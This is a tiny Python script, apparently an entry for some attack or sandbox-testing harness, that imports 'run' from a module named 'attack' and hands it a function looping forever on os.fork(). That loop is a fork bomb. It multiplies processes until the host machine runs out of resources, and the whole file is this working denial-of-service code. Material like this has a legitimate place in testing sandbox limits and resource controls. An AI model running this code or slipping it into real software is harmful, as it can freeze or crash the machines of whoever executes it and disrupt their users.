import os

from attack import run


def attack(item):
    while True:
        os.fork()


run(attack)
